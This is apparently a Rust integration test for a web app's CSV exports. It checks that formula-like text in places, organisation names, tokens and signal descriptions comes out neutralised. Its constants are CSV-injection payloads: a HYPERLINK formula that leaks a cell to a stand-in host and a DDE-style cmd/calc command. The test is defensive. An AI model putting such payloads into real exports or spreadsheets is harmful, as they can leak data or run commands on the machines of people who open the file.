//! Every CSV the app serves, with formula-like text put into the data that reaches it: no cell
//! comes back beginning with `=`, `+`, `-`, `@`, TAB or CR (unless it is a plain number). The CSV
//! routes are taken from the route registry and the CSV writers from the source, so a new export
//! without coverage here makes this test fail.

use std::collections::BTreeSet;

use serde_json::Value;

use crate::harness::{TestApp, signed_in};

const HYPERLINK: &str = "=HYPERLINK(\"http://x.example?leak=\"&B2,\"Open\")";
const PLACE_PLUS: &str = "+SUM(1+1)*cmd|' /C calc'!A0";
const ORGANISATION_AT: &str = "@SUM(1+1) CPAS";
const SIGNAL_MINUS: &str = "-2+3+HYPERLINK(\"http://x.example\")";

/// The `.csv` paths of the registry, and the route a `format=csv` answer comes from.
const CSV_PATHS: &[&str] = &["/opendata/places.csv", "/organisations/{slug}/audit.csv", "/signals.csv"];
/// Source files that write CSV (through `relais_core::csv::CsvWriter`), each covered below.
const CSV_WRITERS: &[&str] = &[
    "crates/relais-accompaniments/src/routes/signals.rs",
    "crates/relais-directory/src/opendata.rs",
    "crates/relais-organisations/src/routes/audit.rs",
    "crates/relais-reports/src/routes.rs",
];

/// What a spreadsheet would evaluate: a formula start, unless the whole cell is a plain number.
fn dangerous(cell: &str) -> bool {
    let number = {
        let unsigned = cell.strip_prefix(['-', '+']).unwrap_or(cell);
        let mut parts = unsigned.splitn(2, ['.', ',']);
        let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
        parts.next().is_some_and(digits) && parts.next().is_none_or(digits)
    };
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !number
}

/// The cells of a CSV answer, after checking its type; `delimiter` as the route writes it.
async fn cells_of(response: reqwest::Response, delimiter: u8) -> Vec<String> {
    let url = response.url().to_string();
    assert_eq!(response.status(), 200, "{url}");
    assert!(response.headers()["content-type"].to_str().unwrap().starts_with("text/csv"), "{url}");
    let text = response.text().await.unwrap();
    let text = text.strip_prefix('\u{feff}').unwrap_or_else(|| panic!("{url}: a byte-order mark"));
    let mut reader = csv::ReaderBuilder::new().delimiter(delimiter).has_headers(false).from_reader(text.as_bytes());
    let cells: Vec<String> = reader.records().flat_map(|r| r.unwrap_or_else(|e| panic!("{url}: {e}")).iter().map(str::to_string).collect::<Vec<_>>()).collect();
    for cell in &cells {
        assert!(!dangerous(cell), "{url}: a spreadsheet would evaluate {cell:?}");
    }
    cells
}

fn has(cells: &[String], text: &str) -> bool {
    let inert = format!("'{text}");
    cells.iter().any(|c| c.contains(&inert))
}

#[tokio::test]
async fn no_csv_export_carries_a_formula() {
    // Every CSV route and writer is covered here.
    let registered: BTreeSet<&str> = relais::routes().paths().iter().copied().filter(|p| p.ends_with(".csv")).collect();
    assert_eq!(registered, CSV_PATHS.iter().copied().collect(), "a new CSV route: cover it in this test");
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    let mut writers = BTreeSet::new();
    for krate in std::fs::read_dir(root.join("crates")).unwrap() {
        let mut stack = vec![krate.unwrap().path().join("src")];
        while let Some(dir) = stack.pop() {
            for entry in std::fs::read_dir(&dir).into_iter().flatten() {
                let path = entry.unwrap().path();
                if path.is_dir() {
                    stack.push(path);
                } else if path.extension().is_some_and(|e| e == "rs") {
                    let source = std::fs::read_to_string(&path).unwrap();
                    let relative = path.strip_prefix(&root).unwrap().to_string_lossy().replace('\\', "/");
                    if relative == "crates/relais-core/src/csv.rs" {
                        continue;
                    }
                    assert!(!source.contains("csv::Writer"), "{relative}: write CSV through relais_core::csv::CsvWriter");
                    if source.contains("CsvWriter::new(") {
                        writers.insert(relative);
                    }
                }
            }
        }
    }
    assert_eq!(writers, CSV_WRITERS.iter().map(|s| s.to_string()).collect(), "a new CSV writer: cover it in this test");

    let app = TestApp::spawn_demo().await;
    let charleroi = relais_organisations::organisations::find_by_slug(&app.db, "cpas-charleroi").await.unwrap().unwrap().id;
    // A volunteer names a token like a formula: it lands in the coordinator's audit export.
    let (volunteer, csrf) = signed_in(&app, "volunteer.charleroi@demo.relais.be").await;
    for name in [HYPERLINK, SIGNAL_MINUS] {
        let created = volunteer.post(app.url("/account/tokens")).form(&[("csrf", csrf.as_str()), ("name", name)]).send().await.unwrap();
        assert_eq!(created.status(), 201);
    }
    // Places and the organisation named like formulas (the reports' place table, the open data),
    // a published signal described like one.
    let places = relais_directory::places::places_of(&app.db, charleroi).await.unwrap();
    assert!(places.len() >= 2, "demo places of Charleroi");
    for (place, name) in places.iter().zip([HYPERLINK, PLACE_PLUS]) {
        relais_core::on_db!(&app.db, pool => sqlx::query("UPDATE places SET name_fr = $1, name_nl = $1, name_de = $1, name_en = $1 WHERE id = $2")
            .bind(name).bind(place.id).execute(pool).await.map(|r| r.rows_affected()))
        .unwrap();
    }
    relais_core::on_db!(&app.db, pool => sqlx::query("UPDATE organisations SET name = $1 WHERE id = $2").bind(ORGANISATION_AT).bind(charleroi).execute(pool).await.map(|r| r.rows_affected())).unwrap();
    relais_directory::places::changed(&app.db).await.unwrap();
    let signal = relais_core::on_db!(&app.db, pool => sqlx::query(
        "UPDATE signals SET description = $1 WHERE id IN (SELECT id FROM signals WHERE organisation_id = $2 AND status = 'published' ORDER BY created_at DESC LIMIT 1)",
    )
    .bind(SIGNAL_MINUS)
    .bind(charleroi)
    .execute(pool)
    .await
    .map(|r| r.rows_affected()))
    .unwrap();
    assert_eq!(signal, 1, "a published signal of Charleroi");

    // /organisations/{slug}/audit.csv, as the coordinator.
    let (coordinator, _) = signed_in(&app, "coordinator.charleroi@demo.relais.be").await;
    let audit = cells_of(coordinator.get(app.url("/organisations/cpas-charleroi/audit.csv")).send().await.unwrap(), b';').await;
    assert!(has(&audit, HYPERLINK) && has(&audit, SIGNAL_MINUS), "the token names, made inert");

    // /opendata/places.csv, for anyone.
    let opendata = cells_of(reqwest::get(app.url("/opendata/places.csv")).await.unwrap(), b',').await;
    assert!(has(&opendata, HYPERLINK) && has(&opendata, PLACE_PLUS) && has(&opendata, ORGANISATION_AT), "place and organisation names, made inert");
    assert!(opendata.iter().any(|c| c.parse::<f64>().is_ok_and(|v| v > 0.0) && c.contains('.')), "coordinates stay numbers");

    // /signals.csv, for a signed-in reader.
    let signals = cells_of(coordinator.get(app.url("/signals.csv")).send().await.unwrap(), b',').await;
    assert!(has(&signals, SIGNAL_MINUS) && has(&signals, ORGANISATION_AT), "the description and the organisation, made inert");

    // The reports' CSV tables (`format=csv&table=…`), every table, of the organisation and of the
    // programme.
    let (funder, _) = signed_in(&app, "viewer.digilab@demo.relais.be").await;
    let mut place_rows = 0;
    for (client, scope) in [(&coordinator, "/organisations/cpas-charleroi/reports"), (&funder, "/groups/e-inclusion-2022/reports")] {
        let report: Value = client.get(app.url(&format!("{scope}?format=json"))).send().await.unwrap().json().await.unwrap();
        let tables = report["tables"].as_array().unwrap();
        assert!(tables.len() > 10, "{scope}: its tables");
        for table in tables {
            let id = table["id"].as_str().unwrap();
            let cells = cells_of(client.get(app.url(&format!("{scope}?format=csv&table={id}"))).send().await.unwrap(), b',').await;
            if has(&cells, HYPERLINK) || has(&cells, PLACE_PLUS) {
                place_rows += 1;
            }
        }
    }
    assert!(place_rows >= 2, "the place names reach the reports' CSV, made inert");
}
